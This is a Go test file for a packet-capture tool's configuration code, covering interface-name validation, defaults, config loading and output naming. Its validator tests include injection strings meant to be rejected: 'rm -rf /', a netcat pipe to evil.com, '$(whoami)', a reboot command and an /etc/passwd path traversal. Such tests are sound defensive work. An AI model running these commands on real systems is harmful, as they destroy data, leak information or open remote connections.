package config

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestValidateInterfaceName(t *testing.T) {
	tests := []struct {
		name      string
		input     string
		wantError bool
		errorMsg  string
	}{
		// Valid interface names
		{"valid basic interface", "eth0", false, ""},
		{"valid wireless interface", "wlan0", false, ""},
		{"valid interface with dash", "en0-1", false, ""},
		{"valid interface with underscore", "eth_0", false, ""},
		{"valid interface with dot", "eth0.100", false, ""},
		{"valid alias", "eth0:1", false, ""},
		{"valid complex interface", "veth123_test-1.vlan", false, ""},
		{"valid npcap device", `\Device\NPF_{6B1E4C7A-1C3D-4F7B-9A2C-0D1E2F3A4B5C}`, false, ""},
		{"valid npcap loopback", `\Device\NPF_Loopback`, false, ""},

		// Invalid interface names
		{"empty string", "", true, "interface name cannot be empty"},
		{"command injection semicolon", "eth0; rm -rf /", true, "interface name contains invalid characters"},
		{"command injection pipe", "eth0|nc evil.com 1234", true, "interface name contains invalid characters"},
		{"command injection dollar", "eth0$(whoami)", true, "interface name contains invalid characters"},
		{"path traversal", "../../../etc/passwd", true, "interface name contains invalid characters"},
		{"forward slash", "eth0/test", true, "interface name contains invalid characters"},
		{"backslash", "eth0\\test", true, "interface name contains invalid characters"},
		{"braces", "eth0{test}", true, "interface name contains invalid characters"},
		{"space", "eth0 test", true, "interface name contains invalid characters"},
		{"newline", "eth0\ntest", true, "interface name contains invalid characters"},
		{"too long", strings.Repeat("a", 256), true, "interface name too long: 256 characters"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := validateInterfaceName(tt.input)
			if tt.wantError {
				if assert.Error(t, err) && tt.errorMsg != "" {
					assert.Contains(t, err.Error(), tt.errorMsg)
				}
			} else {
				assert.NoError(t, err)
			}
		})
	}
}

func TestConfig_ValidateAndSetDefaults(t *testing.T) {
	cfg := &Config{}
	require.NoError(t, cfg.ValidateAndSetDefaults())

	assert.Equal(t, "info", cfg.Logging.Level)
	assert.Equal(t, int64(100), cfg.Logging.MaxSizeMB)
	assert.Equal(t, 7, cfg.Logging.LogRetentionDays)
	assert.Equal(t, "auto", cfg.Capture.Interface)
	assert.Equal(t, "temp", cfg.Capture.OutputDir)
	assert.Equal(t, 30, cfg.Capture.DurationSeconds)
	assert.Equal(t, 65535, cfg.Capture.SnapLen)
	require.NotNil(t, cfg.Capture.Promiscuous)
	assert.True(t, *cfg.Capture.Promiscuous)
	assert.Equal(t, 50, cfg.Capture.FlushEvery)
	assert.Equal(t, 10, cfg.Capture.StatsEvery)
	assert.Equal(t, 100*time.Millisecond, cfg.ControlPollInterval())
	assert.Equal(t, 2*time.Second, cfg.StopGrace())
	assert.Equal(t, 10*time.Second, cfg.VerifyTimeout())
	assert.Equal(t, "history.db", cfg.History.Path)
	assert.False(t, cfg.History.Disabled)
}

func TestConfig_ValidateRejects(t *testing.T) {
	tests := []struct {
		name   string
		mutate func(c *Config)
		want   string
	}{
		{"bad level", func(c *Config) { c.Logging.Level = "loud" }, "invalid log level"},
		{"bad interface", func(c *Config) { c.Capture.Interface = "eth0; reboot" }, "invalid interface 'eth0; reboot'"},
		{"negative duration", func(c *Config) { c.Capture.DurationSeconds = -1 }, "duration_seconds"},
		{"huge snaplen", func(c *Config) { c.Capture.SnapLen = 70000 }, "snap_len"},
		{"negative cadence", func(c *Config) { c.Capture.FlushEvery = -5 }, "flush_every"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := &Config{}
			tt.mutate(cfg)
			err := cfg.ValidateAndSetDefaults()
			require.Error(t, err)
			assert.Contains(t, err.Error(), tt.want)
		})
	}
}

func TestLoadConfig_Formats(t *testing.T) {
	dir := t.TempDir()
	files := map[string]string{
		"config.json": `{"logging":{"level":"debug"},"capture":{"interface":"eth1","flush_every":25,"promiscuous":false},"history":{"path":"h.db"}}`,
		"config.toml": "[logging]\nlevel = \"debug\"\n\n[capture]\ninterface = \"eth1\"\nflush_every = 25\npromiscuous = false\n\n[history]\npath = \"h.db\"\n",
		"config.yaml": "logging:\n  level: debug\ncapture:\n  interface: eth1\n  flush_every: 25\n  promiscuous: false\nhistory:\n  path: h.db\n",
	}

	for name, content := range files {
		t.Run(name, func(t *testing.T) {
			path := filepath.Join(dir, name)
			require.NoError(t, os.WriteFile(path, []byte(content), 0644))

			cfg, err := LoadConfig(path)
			require.NoError(t, err)
			assert.Equal(t, "debug", cfg.Logging.Level)
			assert.Equal(t, "eth1", cfg.Capture.Interface)
			assert.Equal(t, 25, cfg.Capture.FlushEvery)
			assert.Equal(t, 10, cfg.Capture.StatsEvery, "unset fields get defaults")
			require.NotNil(t, cfg.Capture.Promiscuous)
			assert.False(t, *cfg.Capture.Promiscuous)
			assert.Equal(t, "h.db", cfg.History.Path)
		})
	}
}

func TestLoadConfig_Errors(t *testing.T) {
	dir := t.TempDir()

	_, err := LoadConfig(filepath.Join(dir, "missing.json"))
	assert.ErrorContains(t, err, "failed to read config file")

	bad := filepath.Join(dir, "bad.json")
	require.NoError(t, os.WriteFile(bad, []byte("{not json"), 0644))
	_, err = LoadConfig(bad)
	assert.ErrorContains(t, err, "failed to parse config file")
}

func TestDefaultOutputName(t *testing.T) {
	now := time.Date(2024, 3, 9, 7, 5, 1, 0, time.Local)

	assert.Equal(t, "eth0_20240309T070501.pcap", DefaultOutputName("eth0", now))
	assert.Equal(t, "DeviceNPF(Loopback)_20240309T070501.pcap", DefaultOutputName(`\Device\NPF_(Loopback)`, now))
	assert.Equal(t, "WiFi2_20240309T070501.pcap", DefaultOutputName("Wi-Fi 2", now))
	assert.Equal(t, "capture_20240309T070501.pcap", DefaultOutputName("---", now))
}

func TestResolveOutputPath(t *testing.T) {
	now := time.Date(2024, 3, 9, 7, 5, 1, 0, time.Local)
	work := filepath.Join("var", "captures")
	abs, err := filepath.Abs(filepath.Join("data", "x.pcap"))
	require.NoError(t, err)

	tests := []struct {
		name string
		arg  string
		want string
	}{
		{"default name", "", filepath.Join(work, "eth0_20240309T070501.pcap")},
		{"relative name", "mine.pcap", filepath.Join(work, "mine.pcap")},
		{"quoted name", `"mine.pcap"`, filepath.Join(work, "mine.pcap")},
		{"single quoted", "'mine.pcap'", filepath.Join(work, "mine.pcap")},
		{"absolute path", abs, abs},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, ResolveOutputPath(work, "eth0", tt.arg, now))
		})
	}
}
